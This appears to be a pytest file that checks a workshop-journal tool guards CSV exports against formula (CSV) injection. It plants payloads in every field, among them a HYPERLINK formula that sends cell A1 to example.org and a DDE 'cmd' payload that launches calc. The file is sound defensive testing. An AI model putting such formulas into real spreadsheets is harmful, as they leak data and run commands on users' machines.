"""No formula reaches a spreadsheet: every text cell of a CSV export that starts like a formula is guarded.

The payloads go into every field of every record kind (the kinds registry is walked, so a new kind is
covered without touching this file) and into the envelope (workshop id, author); an independent CSV
reader checks that no cell starts like a formula, and import must give back every original text.
"""

from __future__ import annotations

import csv
import json
import re
import sqlite3
from pathlib import Path

import pytest

from labkit.capture import LabJournal, all_kinds
from labkit.capture.csvio import as_text_cell, export_csv, file_names, from_text_cell, import_csv, read_table
from labkit.capture.records import ENVELOPE, Field

#: What a spreadsheet takes for the start of a formula (OWASP, CSV injection).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

PAYLOADS = (
    '=HYPERLINK("http://example.org/?q="&A1,"Klicka här")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "'citat'",
    "-",
    "=",
)

#: A number as Excel reads it: harmless, and it must stay a number.
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _value(spec: Field, payload: str) -> object:
    return {"str": payload, "int": -2, "float": -2.5, "bool": True, "date": "2019-03-19"}[spec.type]


def _text(value: object) -> str:
    """A stored value as the text a reader of the CSV must get back."""
    return "" if value is None else str(value)


def _planted(path: Path) -> LabJournal:
    """A journal with one record per payload and kind: the payload in every text field and the envelope.

    The records are put straight into the table (no rules), so that fields with choices, patterns or
    references carry the payloads too.
    """
    journal = LabJournal(path)
    journal.set_setting("dots_per_participant", 4)
    conn = sqlite3.connect(path, isolation_level=None)
    for kind in all_kinds().values():
        for number, payload in enumerate(PAYLOADS):
            fields = {spec.name: _value(spec, payload) for spec in kind.fields}
            conn.execute(
                "INSERT INTO records (id, kind, created, workshop_id, author, fields) "
                "VALUES (?, ?, ?, ?, ?, ?)",
                (
                    f"{kind.name}-{number}",
                    kind.name,
                    "2019-03-19T09:00:00.000000+00:00",
                    payload,
                    payload,
                    json.dumps(fields, ensure_ascii=False),
                ),
            )
    conn.close()
    return journal


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+46 31 123", "'+46 31 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("'hej", "''hej"),
        ("hej", "hej"),
        ("", ""),
        ("1-2", "1-2"),
        ("a=b", "a=b"),
    ],
)
def test_a_text_cell_is_guarded_and_comes_back(text: str, cell: str) -> None:
    assert as_text_cell(text) == cell
    assert from_text_cell(cell) == text


def test_a_cell_typed_in_excel_is_read_as_typed() -> None:
    assert [from_text_cell(c) for c in ("'tis", "'", "=A1", "-1", "''")] == ["'tis", "'", "=A1", "-1", "'"]


def test_no_exported_cell_starts_like_a_formula_and_every_text_comes_back(tmp_path: Path) -> None:
    journal = _planted(tmp_path / "j.sqlite")
    paths = export_csv(journal, tmp_path / "ut")
    assert [p.name for p in paths] == file_names()
    for path in paths:
        with open(path, encoding="utf-8-sig", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        risky = [cell for cell in cells if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)]
        assert risky == [], path.name
    for kind in all_kinds().values():
        records = journal.raw(kind.name)
        assert len(records) == len(PAYLOADS)
        with open(tmp_path / "ut" / f"{kind.name}.csv", encoding="utf-8-sig", newline="") as handle:
            raw = list(csv.reader(handle))[1:]
        table = read_table(tmp_path / "ut" / f"{kind.name}.csv")
        assert table.header == [*ENVELOPE, *kind.names]
        for (_, cells), written, record, payload in zip(table.rows, raw, records, PAYLOADS, strict=True):
            expected = [_text(record[name]) for name in ENVELOPE] + [
                _text(record["fields"][n]) for n in kind.names
            ]
            assert cells == expected, kind.name  # every text comes back exactly
            assert written[2:4] == ["'" + payload] * 2  # workshop_id and author, guarded
            for spec, cell in zip(kind.fields, written[4:], strict=True):
                assert (
                    cell
                    == {
                        "str": "'" + payload,
                        "int": "-2",
                        "float": "-2.5",
                        "bool": "True",
                        "date": "2019-03-19",
                    }[spec.type]
                ), (kind.name, spec.name)


def test_formulas_in_free_text_and_envelope_round_trip_through_import(tmp_path: Path) -> None:
    source = LabJournal(tmp_path / "a.sqlite", workshop="=möte()", author="@samtalsledare")
    source.add("participant", pseudonym="-P01", role="invånare")
    source.add("participant", pseudonym="+P02", role="politiker", author='=HYPERLINK("http://x")')
    idea = source.add("idea", text="=1+1", round=1, participant="-P01")
    source.add("yes_and", idea=idea, text="@SUM(1+1)", participant="+P02")
    statement = source.add("statement", text="-2+3 är fel")
    source.add("statement_vote", statement=statement, participant="-P01", vote=-1)
    source.add("stakeholder", name="'=Förening", power=2, interest=5, note="+46 31 123 45")
    export_csv(source, tmp_path / "ett")
    with open(tmp_path / "ett" / "statement_vote.csv", encoding="utf-8-sig", newline="") as handle:
        vote = next(iter(csv.DictReader(handle)))
    assert (vote["vote"], vote["participant"], vote["workshop_id"]) == ("-1", "'-P01", "'=möte()")
    copy = LabJournal(tmp_path / "b.sqlite")
    assert import_csv(copy, tmp_path / "ett") == {
        "participant": 2,
        "idea": 1,
        "yes_and": 1,
        "statement": 1,
        "statement_vote": 1,
        "stakeholder": 1,
    }
    assert sorted(copy.raw(), key=lambda r: r["id"]) == sorted(source.raw(), key=lambda r: r["id"])
    assert copy.frame("statement_vote")["vote"].tolist() == [-1]
    export_csv(copy, tmp_path / "två")
    for name in file_names():
        assert (tmp_path / "ett" / name).read_bytes() == (tmp_path / "två" / name).read_bytes(), name
